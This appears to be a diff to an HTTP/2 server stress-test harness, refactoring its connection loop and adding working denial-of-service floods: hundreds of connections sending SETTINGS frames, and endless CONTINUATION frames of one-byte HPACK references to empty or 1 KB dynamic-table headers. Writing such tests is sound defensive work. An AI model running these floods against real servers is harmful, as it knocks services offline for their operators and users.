@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import contextlib
 import io
+import math
 import selectors
 import socket
 import time
@@ -40,6 +41,7 @@ _STREAMS_PER_CONNECTION = 10
 _FIRST_SENDS = 8  # messages of one call that are put into the output at a time
 _TICK_S = 0.01
 _OUTPUT_BYTES = 1 << 16
+_MAX_CONNECT_S = 0.2  # then an attacker tries again, from another port
 
 Attack: TypeAlias = "Callable[[str, str, float], None]"
 """Attacks a server until a time on the monotonic clock. Arguments: the addresses of the server and of its
@@ -106,59 +108,59 @@ def _calls(
     return run
 
 
+class _Sender:
+    """A connection of an attack by frames."""
+
+    def __init__(self, host: str, port: int, first: bytes) -> None:
+        self.socket = socket.socket()
+        self.socket.bind((SOURCE_HOST, 0))
+        self.socket.setblocking(False)
+        self.socket.connect_ex((host, port))
+        self._output = bytearray(first)
+        self._number = 0
+        self._given_up_s = time.monotonic() + _MAX_CONNECT_S
+
+    def exchange(self, events: int, make: Callable[[int], bytes]) -> bool:
+        """Read and write what is possible; return whether the connection is open."""
+        if events & selectors.EVENT_WRITE:
+            self._given_up_s = math.inf
+            if len(self._output) < _OUTPUT_BYTES:
+                self._output += make(self._number)
+                self._number += 1
+        try:
+            if events & selectors.EVENT_READ and not self.socket.recv(1 << 18):
+                return False
+            if events & selectors.EVENT_WRITE:
+                del self._output[: self.socket.send(self._output)]
+        except BlockingIOError:
+            pass
+        except OSError:
+            return False
+        return time.monotonic() < self._given_up_s
+
+
 def _frames(count: int, first: bytes, make: Callable[[int], bytes]) -> Attack:
     """Return an attack by frames; `make` returns some from a number on. A closed connection is replaced."""
 
     def run(address: str, _: str, until_s: float) -> None:
         host, _, port = address.rpartition(":")
-
-        def connect() -> tuple[socket.socket, bytearray]:
-            connection = socket.create_connection((host, int(port)), 5, (SOURCE_HOST, 0))
-            connection.setblocking(False)
-            return connection, bytearray(first)
-
-        numbers: dict[socket.socket, int] = {}
-        outputs: dict[socket.socket, bytearray] = {}
+        senders: set[_Sender] = set()
         with selectors.DefaultSelector() as selector:
-
-            def add() -> None:
-                with contextlib.suppress(OSError):
-                    connection, output = connect()
-                    outputs[connection], numbers[connection] = output, 0
-                    selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
-
             while time.monotonic() < until_s:
-                for _ in range(count - len(outputs)):
-                    add()
-                for key, events in selector.select(_TICK_S):
-                    connection = key.fileobj
-                    assert isinstance(connection, socket.socket)
-                    output = outputs[connection]
-                    if events & selectors.EVENT_WRITE and len(output) < _OUTPUT_BYTES:
-                        output += make(numbers[connection])
-                        numbers[connection] += 1
-                    if not _exchange(connection, events, output):
-                        selector.unregister(connection)
-                        connection.close()
-                        del outputs[connection], numbers[connection]
-            for connection in outputs:
-                connection.close()
+                for _ in range(count - len(senders)):
+                    sender = _Sender(host, int(port), first)
+                    senders.add(sender)
+                    selector.register(sender.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, sender)
+                ready = {key.data: events for key, events in selector.select(_TICK_S)}
+                for sender in list(senders):
+                    if not sender.exchange(ready.get(sender, 0), make):
+                        selector.unregister(sender.socket)
+                        sender.socket.close()
+                        senders.remove(sender)
+            for sender in senders:
+                sender.socket.close()
 
     return run
-
-
-def _exchange(connection: socket.socket, events: int, output: bytearray) -> bool:
-    """Read and write what is possible; return whether the connection is open."""
-    try:
-        if events & selectors.EVENT_READ and not connection.recv(1 << 18):
-            return False
-        if events & selectors.EVENT_WRITE and output:
-            del output[: connection.send(output)]
-    except BlockingIOError:
-        pass
-    except OSError:
-        return False
-    return True
 
 
 def _idle_connections(count: int) -> Attack:
@@ -211,6 +213,9 @@ _EMPTY_FIELDS = frames.prefixed(b"\x12\x00" * 32_700 + b"\x12\x82\x02" + bytes(2
 _STREAM = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, _HEADERS)
 _NO_SETTINGS = frames.frame(frames.SETTINGS, 0, 0, b"")
 _DEPENDENCY = frames.frame(frames.PRIORITIES, 0, 1, b"\0\0\0\0\x10")
+_REFERENCE = b"\xbe"  # to the header that was last added to the dynamic table
+_ADDED_EMPTY_HEADER = b"\x40\x01x\x00"
+_ADDED_LONG_HEADER = b"\x40\x01x\x7f\xe9\x06" + bytes(1000)
 _LITERAL_HEADER = b"\x10\x05x-abc\x7f\xe9\x06" + bytes(1000)
 
 
@@ -226,6 +231,14 @@ def _endless_headers(number: int) -> bytes:
     block = _LITERAL_HEADER * 8
     first = frames.frame(frames.HEADERS, 0, 1, _HEADERS) if not number else b""
     return first + frames.frame(frames.CONTINUATION, 0, 1, block) * 4
+
+
+def _one_byte_headers(header: bytes) -> Callable[[int], bytes]:
+    """Return what makes headers without an end of references to `header`, one byte each."""
+    block = frames.frame(frames.CONTINUATION, 0, 1, _REFERENCE * 8000)
+    return lambda number: (
+        block * 4 if number else frames.frame(frames.HEADERS, 0, 1, _HEADERS + header) + block * 4
+    )
 
 
 ATTACKS: dict[str, tuple[str, Attack]] = {
@@ -317,6 +330,10 @@ ATTACKS: dict[str, tuple[str, Attack]] = {
         "4 connections that send SETTINGS frames",
         _frames(4, _SETTINGS, lambda _: _NO_SETTINGS * 2000),
     ),
+    "many-settings": (
+        "500 connections that send SETTINGS frames",
+        _frames(500, _SETTINGS, lambda _: _NO_SETTINGS * 2000),
+    ),
     "priorities": (
         "4 connections that send PRIORITY frames",
         _frames(4, _SETTINGS, lambda _: _DEPENDENCY * 2000),
@@ -324,6 +341,14 @@ ATTACKS: dict[str, tuple[str, Attack]] = {
     "endless-headers": (
         "65 connections that send headers without an end",
         _frames(65, _SETTINGS, _endless_headers),
+    ),
+    "short-headers": (
+        "65 connections that send headers of one byte without an end",
+        _frames(65, _SETTINGS, _one_byte_headers(_ADDED_EMPTY_HEADER)),
+    ),
+    "repeated-headers": (
+        "65 connections that refer to a header of 1 KB without an end",
+        _frames(65, _SETTINGS, _one_byte_headers(_ADDED_LONG_HEADER)),
     ),
     "idle-connections": ("1,000 connections that send nothing", _idle_connections(1000)),
 }
